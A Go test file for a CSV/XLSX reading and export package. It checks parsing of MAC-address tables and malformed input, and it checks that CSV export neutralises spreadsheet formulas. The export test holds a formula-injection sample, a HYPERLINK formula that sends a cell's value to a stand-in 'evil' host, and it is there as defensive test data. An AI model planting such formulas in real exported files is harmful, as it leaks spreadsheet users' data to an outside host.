package tabular

import (
	"context"
	"strings"
	"testing"
)

func TestReadCSVAndXLSX(t *testing.T) {
	header := []string{"MAC", "Name"}
	rows := [][]string{{"0C:11:05:00:00:01", "Gate"}, {"", ""}, {"0c1105000002", "Villa, north"}}
	x, err := XLSX("MACs", header, rows)
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"csv": CSV(header, rows), "xlsx": x,
		"semicolon": []byte("\xef\xbb\xbfMAC;Name\n0C:11:05:00:00:01;Gate\n\n0c1105000002;\"Villa, north\"\n")} {
		got, err := Read(context.Background(), data)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(got) != 3 || got[0].Cell(0) != "MAC" || got[1].N != 2 || got[2].N != 4 || got[2].Cell(1) != "Villa, north" || got[2].Cell(5) != "" {
			t.Errorf("%s: %+v", name, got)
		}
	}
	if _, err := Read(context.Background(), []byte("a,\"b\nc")); err == nil || !strings.Contains(err.Error(), "row") {
		t.Errorf("broken CSV: %v", err)
	}
	if _, err := Read(context.Background(), []byte{0xff, 0xfe, 0x00}); err == nil {
		t.Error("binary accepted")
	}
	if _, err := Read(context.Background(), append([]byte("PK\x03\x04"), "garbage"...)); err == nil {
		t.Error("broken XLSX accepted")
	}
}

func TestExportCSVDefusesFormulas(t *testing.T) {
	got := string(ExportCSV([]string{"mac", "error"}, [][]string{
		{"0C1105000001", `=HYPERLINK("https://evil/?"&A1,"details")`},
		{"0C1105000002", "+1"}, {"0C1105000003", "-2"}, {"0C1105000004", "@SUM(1)"}, {"0C1105000005", "checksum mismatch"},
	}))
	for _, want := range []string{`'=HYPERLINK(`, "'+1", "'-2", "'@SUM(1)", ",checksum mismatch\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("export lacks %q:\n%s", want, got)
		}
	}
}
